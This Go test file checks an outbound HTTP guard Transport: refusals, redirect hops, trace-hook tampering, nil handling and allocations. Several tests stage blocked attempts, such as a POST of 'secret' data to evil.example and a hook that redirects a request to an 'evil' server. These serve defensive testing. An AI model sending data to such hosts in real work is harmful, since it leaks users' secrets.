package httpguard

import (
	"context"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httptrace"
	"net/url"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/outguard/outguard/internal/alloctest"
	"github.com/outguard/outguard/internal/judged"
	"github.com/outguard/outguard/policy"
)

func noop(*http.Request) (*http.Response, error) { return &http.Response{StatusCode: 200}, nil }

// body counts how often it is closed.
type body struct {
	io.Reader
	closed int
}

func (b *body) Close() error { b.closed++; return nil }

func TestRefusalClosesTheBodyOnceAndSendsNothing(t *testing.T) {
	b := &body{Reader: strings.NewReader("secret")}
	r, err := http.NewRequest("POST", "https://evil.example/x", b)
	require.NoError(t, err)
	sent := 0
	tr := &Transport{Guard: &fakeGuard{refuse: refuseAll}, Base: roundTripper(func(r *http.Request) (*http.Response, error) {
		sent++
		return noop(r)
	})}
	_, err = (&http.Client{Transport: tr}).Do(r)
	var e *refused
	require.ErrorAs(t, err, &e, "found through *url.Error")
	assert.Equal(t, 1, b.closed)
	assert.Zero(t, sent)
}

func TestNoGuardRefuses(t *testing.T) {
	_, err := (&http.Client{Transport: &Transport{Base: roundTripper(noop)}}).Get("https://example.com/")
	assert.ErrorIs(t, err, ErrNoGuard)
}

func TestTheCallersRequestIsNeverChanged(t *testing.T) {
	r, err := http.NewRequest("GET", "https://example.com/x", nil)
	require.NoError(t, err)
	r.Header.Set("A", "1")
	g := &fakeGuard{}
	tr := &Transport{Guard: g, Base: roundTripper(func(sent *http.Request) (*http.Response, error) {
		assert.Same(t, g.calls[0].HTTP, sent, "what was judged is what is sent")
		assert.NotSame(t, r, sent)
		sent.URL.Path, sent.Method = "/y", "PUT"
		sent.Header.Set("A", "2")
		return noop(sent)
	})}
	_, err = tr.RoundTrip(r)
	require.NoError(t, err)
	assert.Equal(t, "https://example.com/x", r.URL.String())
	assert.Equal(t, "GET", r.Method)
	assert.Equal(t, "1", r.Header.Get("A"))
	assert.Equal(t, policy.ViaTransport, g.calls[0].Via)
}

// A trailer's values may be set as late as the body's end, in the caller's request.
func TestATrailerIsSent(t *testing.T) {
	var got http.Header
	s := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		_, _ = io.Copy(io.Discard, r.Body)
		got = r.Trailer
	}))
	t.Cleanup(s.Close)
	r, err := http.NewRequest("POST", s.URL, nil)
	require.NoError(t, err)
	r.Trailer = http.Header{"Checksum": nil}
	r.Body = &body{Reader: io.MultiReader(strings.NewReader("data"), readerFunc(func([]byte) (int, error) {
		r.Trailer.Set("Checksum", "42")
		return 0, io.EOF
	}))}
	r.ContentLength = -1
	resp, err := (&Transport{Guard: &fakeGuard{}}).RoundTrip(r)
	require.NoError(t, err)
	require.NoError(t, resp.Body.Close())
	assert.Equal(t, http.Header{"Checksum": {"42"}}, got)
}

type readerFunc func([]byte) (int, error)

func (f readerFunc) Read(p []byte) (int, error) { return f(p) }

func TestEveryHopOfARedirectIsJudged(t *testing.T) {
	s := serve(t)
	g := &fakeGuard{refuse: refusePath("/three")}
	c := &http.Client{Transport: &Transport{Guard: g}}
	err := get(t, c, s.URL+"/one?to="+url.QueryEscape("/two?to=/three"))
	var e *refused
	require.ErrorAs(t, err, &e)
	assert.Equal(t, []string{"GET /one HTTP/1.1", "GET /two HTTP/1.1"}, s.requests())
	assert.Len(t, g.urls(), 3)
}

// A trace hook holds the caller's request and runs between the check and the sending.
func TestAHookCannotChangeWhatIsSent(t *testing.T) {
	s, evil := serve(t), serve(t)
	r, err := http.NewRequest("GET", s.URL+"/good", nil)
	require.NoError(t, err)
	change := func() {
		u, _ := url.Parse(evil.URL)
		*r.URL = url.URL{Scheme: "http", Host: u.Host, Path: "/evil"}
		r.Host = u.Host
		r.Header["host"] = []string{u.Host}
	}
	r = r.WithContext(httptrace.WithClientTrace(context.Background(), &httptrace.ClientTrace{
		GetConn:          func(string) { change() },
		GotConn:          func(httptrace.GotConnInfo) { change() },
		WroteHeaderField: func(string, []string) {},
	}))
	resp, err := (&Transport{Guard: &fakeGuard{}}).RoundTrip(r)
	require.NoError(t, err)
	require.NoError(t, resp.Body.Close())
	assert.Equal(t, []string{"GET /good HTTP/1.1"}, s.requests())
	assert.Empty(t, evil.requests())
}

func TestTheMarkEndsWithTheResponse(t *testing.T) {
	s := serve(t)
	for name, base := range map[string]http.RoundTripper{
		"net/http": &http.Transport{},
		"own request": roundTripper(func(r *http.Request) (*http.Response, error) {
			return &http.Response{Body: http.NoBody, Request: r.Clone(r.Context())}, nil
		}),
	} {
		r, err := http.NewRequest("GET", s.URL+"/x", nil)
		require.NoError(t, err)
		resp, err := (&Transport{Guard: &fakeGuard{}, Base: base}).RoundTrip(r)
		require.NoError(t, err, name)
		require.NoError(t, resp.Body.Close())
		assert.False(t, judged.Is(resp.Request), name)
	}
}

func TestAJudgedRequestPassesAndNoOther(t *testing.T) {
	r, err := http.NewRequest("GET", "https://example.com/x", nil)
	require.NoError(t, err)
	ctx, mark := judged.With(context.Background(), r)
	g := &fakeGuard{refuse: refuseAll}
	mark.By(g, false)
	tr := &Transport{Guard: g, Base: roundTripper(noop)}

	_, err = tr.RoundTrip(r.WithContext(ctx))
	require.NoError(t, err)
	assert.Empty(t, g.calls)
	assert.True(t, mark.Below())

	other := r.Clone(ctx)
	other.URL.Host = "evil.example"
	_, err = tr.RoundTrip(other)
	assert.Error(t, err)
}

// A guard above a guard, an instrumented client of the guarded http.DefaultTransport, say, is
// one check.
func TestTransportOverTransportJudgesOnce(t *testing.T) {
	g := &fakeGuard{}
	tr := &Transport{Guard: g, Base: &Transport{Guard: g, Base: roundTripper(noop)}}
	require.NoError(t, errorOf(tr.RoundTrip(request(t, "https://example.com/"))))
	assert.Len(t, g.calls, 1)
}

func TestMalformedRequestsReachTheGuard(t *testing.T) {
	g := &fakeGuard{}
	tr := &Transport{Guard: g, Base: roundTripper(noop)}
	for _, r := range []*http.Request{{}, {URL: &url.URL{}}, {Method: "GET", URL: &url.URL{Opaque: "//evil.example/x"}}} {
		require.NoError(t, errorOf(tr.RoundTrip(r)))
	}
	assert.Len(t, g.calls, 3)
}

func TestCloseIdleConnectionsIsForwarded(t *testing.T) {
	c := &closer{}
	(&http.Client{Transport: &Transport{Base: c}}).CloseIdleConnections()
	assert.Equal(t, 1, c.closed)
	(&Transport{Base: roundTripper(noop)}).CloseIdleConnections()
}

type closer struct {
	http.RoundTripper
	closed int
}

func (c *closer) CloseIdleConnections() { c.closed++ }

// passing is a guard that lets everything pass and costs nothing.
type passing struct{}

func (passing) Check(context.Context, policy.Call) error { return nil }

func TestRoundTripAllocates(t *testing.T) {
	r := request(t, "https://api.example.com/v1/charges?x=1")
	for _, k := range []string{"Accept", "Authorization", "Content-Type", "User-Agent", "X-Request-Id"} {
		r.Header.Set(k, "some value")
	}
	resp := &http.Response{StatusCode: 200, Body: http.NoBody}
	tr := &Transport{Guard: passing{}, Base: roundTripper(func(*http.Request) (*http.Response, error) { return resp, nil })}
	alloctest.AtMost(t, 7, func() { _, _ = tr.RoundTrip(r) })
}

func request(t testing.TB, url string) *http.Request {
	t.Helper()
	r, err := http.NewRequest("GET", url, nil)
	require.NoError(t, err)
	return r
}

func errorOf(_ *http.Response, err error) error { return err }

// net/http panics for these, and a guard must not.
func TestNilPointersAreErrors(t *testing.T) {
	g := &fakeGuard{}
	for _, base := range []http.RoundTripper{(*http.Transport)(nil), (*Transport)(nil)} {
		b := &body{Reader: strings.NewReader("x")}
		r := request(t, "http://good.test/")
		r.Body = b
		_, err := (&Transport{Guard: g, Base: base}).RoundTrip(r)
		assert.ErrorContains(t, err, "nil pointer", "%T", base)
		assert.Equal(t, 1, b.closed, "%T", base)
	}
	_, err := (&Transport{Guard: g}).RoundTrip(nil)
	assert.ErrorContains(t, err, "the request is nil")
	assert.Empty(t, g.urls())

	g.refuse = refuseAll
	var none context.Context // a driver may have no context
	_, err = DialContext(g, nil)(none, "tcp", "good.test:80")
	assertRefused(t, err)
}
